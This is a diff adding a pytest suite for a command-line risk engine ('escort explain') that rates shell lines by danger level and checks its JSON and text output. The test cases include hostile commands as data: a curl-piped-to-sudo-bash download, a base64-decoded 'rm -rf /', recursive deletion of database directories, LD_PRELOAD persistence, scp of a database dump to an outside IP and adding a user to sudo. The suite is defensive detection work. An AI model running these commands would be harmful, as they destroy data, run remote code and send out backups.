@@ -1,0 +1,126 @@
+"""escort explain: the risk engine as the escort sees it."""
+import json
+import os
+import subprocess
+
+import pytest
+
+from conftest import ROOT
+
+RULES = str(ROOT / "rules")
+LEVELS = ["info", "low", "medium", "high", "critical"]
+
+
+def explain(escort, *line, json_out=True, rules=RULES):
+    args = [escort, "explain", "--rules", rules] + (["--json"] if json_out else []) + ["--"]
+    p = subprocess.run(args + list(line), capture_output=True, text=True, timeout=30)
+    return p
+
+
+def rated(escort, line):
+    p = explain(escort, line)
+    assert p.returncode == 0, p.stderr
+    return json.loads(p.stdout)
+
+
+def test_json_has_exactly_the_documented_shape(escort):
+    out = rated(escort, "sudo rm -rf /var/lib/postgresql/15/main/pg_wal")
+    assert set(out) == {"line", "level", "summary", "findings"}
+    assert out["level"] == "high"
+    for f in out["findings"]:
+        assert set(f) == {"rule", "level", "attack", "explain", "why", "ask", "undo"}
+        assert f["level"] in LEVELS
+    top = out["findings"][0]
+    assert top["rule"] == "destruction.rm-recursive"
+    assert "/var/lib/postgresql/15/main/pg_wal" in top["explain"]
+    assert "T1485" in top["attack"]
+
+
+def test_everyday_work_is_not_flagged(escort):
+    for line in ("ls -la /var/log", "ps aux | grep nginx | wc -l", "df -h && free -m",
+                 "systemctl status nginx", "grep -i error /var/log/syslog | tail -20"):
+        assert LEVELS.index(rated(escort, line)["level"]) <= 1, line
+
+
+@pytest.mark.parametrize("line,level,rule", [
+    ("curl -s http://203.0.113.5/x.sh | sudo bash", "critical", "exec.download-and-run"),
+    ("echo cm0gLXJmIC8K | base64 -d | sh", "critical", "exec.decode-and-run"),
+    ("$a -rf /", "high", "computed-command"),
+    ("r\\m -rf /srv", "critical", "disguised-command"),
+    ("echo 'oops", "high", "parse-error"),
+    ("vim /etc/hosts", "medium", "exec.interactive-editor"),
+    ("frobnicate-widgets --all", "medium", "unknown-program"),
+    ("ssh db1 'systemctl stop postgresql'", "high", "system.stop-service"),
+    ("find / -name '*.log' -exec rm -f {} \\;", "medium", "destruction.rm-files"),
+    ("env LD_PRELOAD=/tmp/x.so nohup timeout 5 ls", "high", "persistence.ld-preload-env"),
+])
+def test_dangerous_lines_and_how_they_are_seen(escort, line, level, rule):
+    out = rated(escort, line)
+    assert LEVELS.index(out["level"]) >= LEVELS.index(level), out
+    assert rule in [f["rule"] for f in out["findings"]], out
+
+
+def test_the_level_is_the_highest_of_the_parts(escort):
+    out = rated(escort, "ls; uptime; shutdown -h now")
+    assert out["level"] == "critical"
+    assert out["findings"][0]["rule"] == "system.power"
+
+
+def test_unknown_program_uses_the_manual_summary(escort):
+    out = rated(escort, "dd if=disk.img of=copy.img")
+    unknown = [f for f in out["findings"] if f["rule"] == "unknown-program"]
+    assert unknown and "convert and copy a file" in unknown[0]["explain"]
+    assert unknown[0]["why"] == "unknown program: ask the operator what it does"
+
+
+def test_hidden_characters_are_shown_and_raise_the_level(escort):
+    out = rated(escort, "ls \u202e gnp.exe \x1b[8m hidden")
+    assert out["level"] == "high"
+    assert "<U+202E>" in out["line"] and "\\x1b" in out["line"]
+    assert "\u202e" not in out["line"] and "\x1b" not in out["line"]
+    text = explain(escort, "echo \u200bhi", json_out=False)
+    assert "<U+200B>" in text.stdout and "\u200b" not in text.stdout
+    assert "hidden-characters" in text.stdout
+
+
+def test_a_script_is_as_risky_as_what_it_contains(escort, tmp_path):
+    script = tmp_path / "cleanup.sh"
+    script.write_text("#!/bin/bash\necho cleaning\nrm -rf /var/lib/mysql\n")
+    script.chmod(0o755)
+    for line in (f"bash {script}", f"sh {script}", str(script)):
+        out = rated(escort, line)
+        assert out["level"] == "high", line
+        assert "/var/lib/mysql" in out["summary"]
+    big = tmp_path / "big.sh"
+    big.write_text("echo x\n" * 20000 + "reboot\n")  # past the 64 KiB that is read
+    out = rated(escort, f"bash {big}")
+    assert out["level"] in LEVELS
+
+
+def test_explanations_name_the_concrete_things(escort):
+    out = rated(escort, "scp /var/backups/db.sql me@203.0.113.5:/tmp/")
+    text = " ".join(f["explain"] for f in out["findings"])
+    assert "/var/backups/db.sql" in text and "203.0.113.5" in text
+    out = rated(escort, "usermod -aG sudo mallory")
+    assert any("mallory" in f["explain"] for f in out["findings"])
+
+
+def test_text_output_and_usage(escort):
+    p = explain(escort, "rm", "-rf", "/tmp/x", json_out=False)
+    assert p.returncode == 0
+    assert "Risk:     high" in p.stdout and "Ask the operator:" in p.stdout
+    for args in (["explain"], ["explain", "--bogus", "x"]):
+        assert subprocess.run([escort] + args, capture_output=True).returncode == 2
+
+
+def test_a_bad_rules_file_is_refused_with_file_and_line(escort, tmp_path):
+    (tmp_path / "bad.yaml").write_text(
+        "- id: broken\n  level: extreme\n  match: {command: [ls]}\n")
+    p = explain(escort, "ls", rules=str(tmp_path))
+    assert p.returncode == 1
+    assert "bad.yaml:2" in p.stderr and "level must be" in p.stderr
+    (tmp_path / "bad.yaml").write_text("- id: x\n  level: low\n  match: {bogus: 1}\n")
+    p = explain(escort, "ls", rules=str(tmp_path))
+    assert p.returncode == 1 and "unknown match key 'bogus'" in p.stderr
+    p = explain(escort, "ls", rules=str(tmp_path / "missing"))
+    assert p.returncode == 1 and "No such file" in p.stderr
